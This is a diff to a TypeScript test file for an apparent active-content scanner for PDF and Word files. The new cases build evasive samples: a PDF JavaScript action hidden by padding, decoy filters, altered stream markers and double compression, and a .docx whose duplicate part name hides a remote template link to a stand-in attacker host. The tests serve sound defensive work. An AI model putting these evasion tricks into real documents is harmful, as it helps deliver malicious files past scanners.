@@ -17,6 +17,19 @@ const RICH_TEXT = 'application/rtf';
 
 const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';
 const rels = (type: string, target: string, mode?: string) => makeDocx(makeRelationship(type, target, mode));
+const replaceBytes = (content: Uint8Array, from: string, to: string) =>
+  Buffer.from(Buffer.from(content).toString('latin1').replaceAll(from, to), 'latin1');
+const PACKED_TWICE = deflateSync(deflateSync(Buffer.from(`1 0 ${SCRIPT}`)));
+/** Looks like the filter of the stream around it. */
+const DECOY = '/X << /Filter /FlateDecode >>';
+/** A second part of the same name hides the first from readers that keep the last. */
+const DOUBLE_PART = replaceBytes(
+  makeDocx(makeRelationship('attachedTemplate', 'http://evil.example/t.dotm', 'External'), {
+    'word/_rels/documenu.xml.rels': '<Relationships/>',
+  }),
+  'documenu',
+  'document',
+);
 const richText = (text: string) => Buffer.from(`{\\rtf1 ${text}}`);
 
 describe('active content', () => {
@@ -46,6 +59,13 @@ describe('active content', () => {
     ['attachments', makeDeflatedPdfStream('/Type /ObjStm /N 1', '1 0 << /EF << /F 3 0 R >> >>')],
     ['unreadable', makePdfStream('/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]', deflateSync('1 0 <<>>'))],
     ['unreadable', makePdfStream('/Type /ObjStm /Filter /FlateDecode', Buffer.from('not deflated'))],
+    ['scripts', makeDeflatedPdfStream(`/Type /ObjStm ${' '.repeat(5000)} /N 1`, `1 0 ${SCRIPT}`)],
+    ['scripts', makeDeflatedPdfStream('/Type /ObjStm /X (an obj ) /N 1', `1 0 ${SCRIPT}`)],
+    [
+      'scripts',
+      replaceBytes(makeDeflatedPdfStream('/Type /ObjStm /N 1', `1 0 ${SCRIPT}`), '\nstream\n', '\nstream \n'),
+    ],
+    ['unreadable', makePdfStream(`/Type /ObjStm /Filter [/FlateDecode /FlateDecode] ${DECOY}`, PACKED_TWICE)],
     ['unreadable', makeDeflatedPdfStream('/Type /ObjStm /N 1', 'x'.repeat(21_000_000))],
   ])('is found in objects that a PDF packs together: %s', async (finding, stream) => {
     expect(await findActiveContent(PDF, makePdf('<< >>', stream))).toBe(finding);
@@ -74,6 +94,7 @@ describe('active content', () => {
     ['unreadable', makeDocx('', { 'word/_rels/x.xml.rels': '<!DOCTYPE x [<!ENTITY v "vba">]><Relationships/>' })],
     ['unreadable', makeDocx('', { 'word/_rels/x.xml.rels': '<Relationships>' })],
     ['unreadable', makeDocx('', { 'word/_rels/x.xml.rels': ' '.repeat(2_100_000) })],
+    ['unreadable', DOUBLE_PART],
     ['unreadable', Buffer.from('PK\u0003\u0004 not a zip')],
   ])('is found in a Word document: %s', async (finding, content) => {
     expect(await findActiveContent(WORD, content)).toBe(finding);
